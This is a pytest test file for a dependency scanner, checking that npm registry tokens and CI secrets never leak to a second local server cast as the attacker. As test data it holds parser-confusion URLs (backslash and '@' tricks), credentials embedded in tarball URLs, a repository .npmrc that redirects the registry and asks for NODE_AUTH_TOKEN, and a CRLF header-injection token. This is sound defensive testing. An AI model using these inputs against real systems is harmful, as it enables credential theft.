"""Hostile input against the user's registry credentials, through the real CLI and real servers on
127.0.0.1 that record every request's headers.

The user's own npm configuration (the user npmrc) holds a token for their registry, server A. A
lockfile, a registry answer or the scanned repository then tries to make depscan send it elsewhere:
to server B through a URL that two parsers read differently, across a redirect, over plain http,
or into the on-disk cache. The token must reach A and nothing else, and whatever was refused is
reported as not checked, or as one line on stderr with exit code 2.
"""

from __future__ import annotations

import io
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.helpers import (
    Depscan,
    Locked,
    Run,
    copy_fixture_registry,
    header,
    isolated_env,
    read_packument,
    write_json,
    write_lockfile,
)
from tests.support.registry_server import FixtureRegistry

SECRET = "npm_HostileTestSecret0123456789"
CI_SECRET = "ci-job-secret-9876543210"


@pytest.fixture
def registry_root(tmp_path: Path) -> Path:
    return copy_fixture_registry(tmp_path / "registry")


@pytest.fixture
def server_a(registry_root: Path) -> Iterator[FixtureRegistry]:
    """The user's registry: their token is configured for it."""
    with FixtureRegistry(registry_root) as running:
        yield running


@pytest.fixture
def server_b(registry_root: Path) -> Iterator[FixtureRegistry]:
    """The attacker's host."""
    with FixtureRegistry(registry_root) as running:
        yield running


@pytest.fixture
def depscan(tmp_path: Path) -> Depscan:
    project = tmp_path / "project"
    project.mkdir()
    return Depscan(project=project, cache_dir=tmp_path / "cache", home=tmp_path / "home")


def _authority(server: FixtureRegistry) -> str:
    return server.url.split("://", 1)[1].rstrip("/")


def _user_npmrc(depscan: Depscan, text: str) -> None:
    depscan.home.mkdir(parents=True, exist_ok=True)
    (depscan.home / "user-npmrc").write_text(text, encoding="utf-8")


def _token_for(depscan: Depscan, server: FixtureRegistry) -> None:
    _user_npmrc(depscan, f"registry={server.url}\n//{_authority(server)}/:_authToken={SECRET}\n")


def _authorizations(server: FixtureRegistry) -> list[str | None]:
    return [header(r, "Authorization") for r in server.received]


def _assert_secret_nowhere(run: Run, *secrets: str) -> None:
    for secret in secrets:
        assert secret not in run.stdout and secret not in run.stderr


def _one_error_line(run: Run) -> str:
    assert run.returncode == 2, run.stderr
    assert run.stdout == ""
    lines = run.stderr.splitlines()
    assert len(lines) == 1, run.stderr
    assert lines[0].startswith("depscan: error: ") and "Traceback" not in run.stderr
    return lines[0]


def _older(depscan: Depscan, registry_root: Path, locked: Locked) -> Path:
    """The lockfile before the change, for --diff-from or --base."""
    return write_lockfile(depscan.project.parent / "base", registry_root, [locked])


def _upgrade_with_resolved(depscan: Depscan, registry_root: Path, resolved_base: str) -> Path:
    """A lockfile that upgrades a package the registry does not know, so its tarballs are fetched
    from the lockfile's own ``resolved`` URLs; returns the older lockfile for --diff-from."""
    base = write_lockfile(
        depscan.project.parent / "base",
        registry_root,
        [Locked("hostile-widget", "1.0.0")],
        resolved_base=resolved_base,
    )
    write_lockfile(
        depscan.project, registry_root, [Locked("hostile-widget", "1.0.1")],
        resolved_base=resolved_base,
    )
    return base


# The case first: depscan used to read the host after the '@' (A, whose token it attached)
# while requests connected to the host before the '\' (B).
HOSTILE_FORMS = [
    ("{b}\\@{a}", "backslash"),
    ("{b}%5C@{a}", "credentials"),
    ("{b}@{a}", "credentials"),
    ("{a}\t@{b}", "whitespace"),
    ("{a}\\{b}", "backslash"),
]


@pytest.mark.parametrize(("authority", "reason"), HOSTILE_FORMS)
def test_a_lockfile_url_that_parsers_read_differently_gets_no_token(
    depscan: Depscan,
    registry_root: Path,
    server_a: FixtureRegistry,
    server_b: FixtureRegistry,
    authority: str,
    reason: str,
) -> None:
    _token_for(depscan, server_a)
    hostile = "http://" + authority.format(a=_authority(server_a), b=_authority(server_b)) + "/"
    base = _upgrade_with_resolved(depscan, registry_root, hostile)

    run = depscan.run("--diff-from", str(base))

    assert server_b.received == []
    assert all("hostile-widget/-/" not in r.path for r in server_a.received)
    # A did hear from depscan (the package documents), with its own token, over loopback http.
    assert server_a.received and set(_authorizations(server_a)) == {f"Bearer {SECRET}"}
    reasons = run.not_checked_packages("tarball-diff")
    assert "tarball URL refused" in reasons["hostile-widget@1.0.1"]
    assert reason in reasons["hostile-widget@1.0.1"]
    _assert_secret_nowhere(run, SECRET)


def test_a_registry_answer_with_such_a_tarball_url_gets_no_token(
    depscan: Depscan,
    registry_root: Path,
    server_a: FixtureRegistry,
    server_b: FixtureRegistry,
) -> None:
    _token_for(depscan, server_a)
    document = read_packument(registry_root, "left-pad")
    hostile = f"http://{_authority(server_b)}\\@{_authority(server_a)}/left-pad/-/left-pad-1.3.0.tgz"
    document["versions"]["1.3.0"]["dist"]["tarball"] = hostile
    write_json(registry_root / "packuments" / "left-pad.json", document)
    base = _older(depscan, registry_root, Locked("left-pad", "1.2.0"))
    write_lockfile(depscan.project, registry_root, [Locked("left-pad", "1.3.0")])

    run = depscan.run("--diff-from", str(base))

    assert server_b.received == []
    assert "/left-pad/-/left-pad-1.3.0.tgz" not in [r.path for r in server_a.received]
    # The cached document keeps no userinfo-like part, so the refusal names credentials.
    assert "tarball URL refused" in run.not_checked_packages("tarball-diff")["left-pad@1.3.0"]
    _assert_secret_nowhere(run, SECRET)


def test_a_redirect_to_another_host_carries_no_token(
    depscan: Depscan, registry_root: Path, server_a: FixtureRegistry, server_b: FixtureRegistry
) -> None:
    _token_for(depscan, server_a)
    write_lockfile(depscan.project, registry_root, [Locked("event-stream", "3.3.6")])
    server_a.redirect("/event-stream", server_b.url + "event-stream")

    run = depscan.run()

    assert server_a.count("/event-stream") == 1
    assert header(server_a.received[0], "Authorization") == f"Bearer {SECRET}"
    assert server_b.count("/event-stream") == 1
    assert _authorizations(server_b) == [None]
    # B answered, so the package was examined.
    run.finding_for("publishers", "event-stream@3.3.6", "publisher-takeover")


def test_no_token_over_plain_http_to_another_machine(
    depscan: Depscan, registry_root: Path, server_a: FixtureRegistry
) -> None:
    """The user configured a token for an http registry on another machine; server A, acting as
    the HTTP proxy on the way there, sees every request as that machine would."""
    _user_npmrc(
        depscan,
        "registry=http://registry.example.test/\n"
        f"//registry.example.test/:_authToken={SECRET}\n",
    )
    depscan.env_extra.update(
        http_proxy=server_a.url, HTTP_PROXY=server_a.url, no_proxy="", NO_PROXY=""
    )
    write_lockfile(depscan.project, registry_root, [Locked("event-stream", "3.3.6")])

    run = depscan.run()

    assert server_a.received, "the requests did not go through the proxy"
    assert {header(r, "Host") for r in server_a.received} == {"registry.example.test"}
    assert _authorizations(server_a) == [None] * len(server_a.received)
    run.finding_for("publishers", "event-stream@3.3.6", "publisher-takeover")


def test_no_credential_reaches_the_cache(
    depscan: Depscan, registry_root: Path, server_a: FixtureRegistry
) -> None:
    _token_for(depscan, server_a)
    base = _older(depscan, registry_root, Locked("left-pad", "1.2.0"))
    write_lockfile(depscan.project, registry_root, [Locked("left-pad", "1.3.0")])

    run = depscan.run("--diff-from", str(base))

    assert "/left-pad/-/left-pad-1.3.0.tgz" in [r.path for r in server_a.received]
    assert "left-pad@1.3.0" not in run.not_checked_packages("tarball-diff")
    stored = [p for p in depscan.cache_dir.rglob("*") if p.is_file()]
    assert stored, "nothing was cached: the test would prove nothing"
    for path in stored:
        data = path.read_bytes()
        assert SECRET.encode() not in data, path
        assert b"_authToken" not in data, path


def test_a_registry_answer_with_credentials_in_a_tarball_url_is_cached_without_them(
    depscan: Depscan, registry_root: Path, server_a: FixtureRegistry
) -> None:
    _token_for(depscan, server_a)
    document = read_packument(registry_root, "left-pad")
    document["versions"]["1.3.0"]["dist"]["tarball"] = (
        f"http://deploy:{SECRET}@{_authority(server_a)}/left-pad/-/left-pad-1.3.0.tgz"
    )
    write_json(registry_root / "packuments" / "left-pad.json", document)
    base = _older(depscan, registry_root, Locked("left-pad", "1.2.0"))
    write_lockfile(depscan.project, registry_root, [Locked("left-pad", "1.3.0")])

    run = depscan.run("--diff-from", str(base))

    assert "credentials" in run.not_checked_packages("tarball-diff")["left-pad@1.3.0"]
    for path in (p for p in depscan.cache_dir.rglob("*") if p.is_file()):
        assert SECRET.encode() not in path.read_bytes(), path
    _assert_secret_nowhere(run, SECRET)


def test_the_repository_npmrc_in_pull_request_mode_sends_no_ci_secret(
    depscan: Depscan, registry_root: Path, server_a: FixtureRegistry, server_b: FixtureRegistry
) -> None:
    """The issue's case: the repository's .npmrc points the registry at the attacker and asks for
    the CI job's secret by ${ENV}; in pull-request mode it is not read at all."""
    _user_npmrc(depscan, f"registry={server_a.url}\n")
    depscan.env_extra["NODE_AUTH_TOKEN"] = CI_SECRET
    (depscan.project / ".npmrc").write_text(
        f"registry={server_b.url}\n//{_authority(server_b)}/:_authToken=${{NODE_AUTH_TOKEN}}\n",
        encoding="utf-8",
    )
    base = _older(depscan, registry_root, Locked("left-pad", "1.2.0"))
    write_lockfile(depscan.project, registry_root, [Locked("event-stream", "3.3.6")])

    run = depscan.run("--base", str(base))

    assert server_b.received == []
    assert server_a.count("/event-stream") == 1
    assert all(CI_SECRET not in (header(r, "Authorization") or "") for r in server_a.received)
    assert f"{depscan.project / '.npmrc'}: not read" in run.stderr
    run.finding_for("publishers", "event-stream@3.3.6", "publisher-takeover")
    _assert_secret_nowhere(run, CI_SECRET)


@pytest.mark.parametrize(
    ("npmrc", "expected"),
    [
        ("registry=http://[::1/\n", "closing ']'"),
        ("registry='" + "[" * 50_000 + "]" * 50_000 + "'\n", "not usable"),
        (f'registry=http://127.0.0.1:9/\n//127.0.0.1:9/:_authToken="{SECRET}\\r\\nX-A: 1"\n',
         "HTTP header"),
        ("registry=http://127.0.0.1:9/\nfetch-timeout=soon\n", "fetch-timeout"),
    ],
)
def test_unusable_npm_configuration_is_one_line_naming_the_file(
    depscan: Depscan, registry_root: Path, npmrc: str, expected: str
) -> None:
    _user_npmrc(depscan, npmrc)
    write_lockfile(depscan.project, registry_root, [Locked("event-stream", "3.3.6")])

    run = depscan.run_expecting_error("--format", "json")

    line = _one_error_line(run)
    assert line.startswith(f"depscan: error: {depscan.home / 'user-npmrc'}: ")
    assert expected in line and len(line) < 500
    _assert_secret_nowhere(run, SECRET)


def test_credentials_in_the_registry_url_are_refused_before_any_request(
    depscan: Depscan, registry_root: Path, server_a: FixtureRegistry
) -> None:
    write_lockfile(depscan.project, registry_root, [Locked("event-stream", "3.3.6")])
    url = f"http://deploy:{SECRET}@{_authority(server_a)}/"

    run = depscan.run_expecting_error("--format", "json", "--registry", url)

    line = _one_error_line(run)
    assert line.startswith("depscan: error: --registry: ") and "credentials" in line
    assert server_a.received == []
    _assert_secret_nowhere(run, SECRET)
    stored = [p for p in depscan.cache_dir.rglob("*") if p.is_file()]
    assert all(SECRET.encode() not in p.read_bytes() for p in stored)


def test_findings_json_holds_no_secret(
    depscan: Depscan, registry_root: Path, server_a: FixtureRegistry
) -> None:
    """A registry that refuses the token: the reason explains, the token stays out of reports."""
    _token_for(depscan, server_a)
    write_lockfile(depscan.project, registry_root, [Locked("event-stream", "3.3.6")])
    server_a.fail("/event-stream", 401, times=10)

    run = depscan.run()

    reason = run.not_checked_packages("publishers")["event-stream@3.3.6"]
    assert "HTTP 401" in reason
    assert SECRET not in json.dumps(run.report)


@pytest.mark.parametrize("trusted", [None, "true"], ids=["default", "opted-in"])
def test_the_action_reads_the_repository_npmrc_only_when_told_to(
    depscan: Depscan,
    registry_root: Path,
    server_a: FixtureRegistry,
    server_b: FixtureRegistry,
    tmp_path: Path,
    trusted: str | None,
) -> None:
    """The Action on a push (no pull request, no base): still the repository's .npmrc is not
    read unless DEPSCAN_TRUST_PROJECT_NPMRC says so."""
    from scanner.action import run as run_action

    _user_npmrc(depscan, f"registry={server_a.url}\n")
    (depscan.project / ".npmrc").write_text(
        f"registry={server_b.url}\n//{_authority(server_b)}/:_authToken=${{NODE_AUTH_TOKEN}}\n",
        encoding="utf-8",
    )
    lockfile = write_lockfile(depscan.project, registry_root, [Locked("event-stream", "3.3.6")])
    runner = tmp_path / "runner"
    runner.mkdir()
    env = isolated_env(depscan.home, {"NODE_AUTH_TOKEN": CI_SECRET})
    env.update(
        GITHUB_EVENT_NAME="push", INPUT_PATH=str(lockfile), INPUT_FORMAT="json",
        RUNNER_TEMP=str(runner), GITHUB_OUTPUT=str(runner / "output"),
        DEPSCAN_CACHE_DIR=str(depscan.cache_dir),
    )
    if trusted is not None:
        env["DEPSCAN_TRUST_PROJECT_NPMRC"] = trusted
    out = io.StringIO()
    with pytest.MonkeyPatch.context() as patch:
        for key in [k for k in os.environ if k.lower().startswith("npm_config_")]:
            patch.delenv(key)
        for key, value in env.items():
            patch.setenv(key, value)
        code = run_action(env, depscan.project, out)

    assert code == 1  # event-stream@3.3.6 is known-malicious either way
    used, unused = (server_b, server_a) if trusted else (server_a, server_b)
    assert used.count("/event-stream") == 1 and unused.received == []
    expected = {f"Bearer {CI_SECRET}"} if trusted else {None}
    assert {header(r, "Authorization") for r in used.received} == expected
    assert CI_SECRET not in out.getvalue()
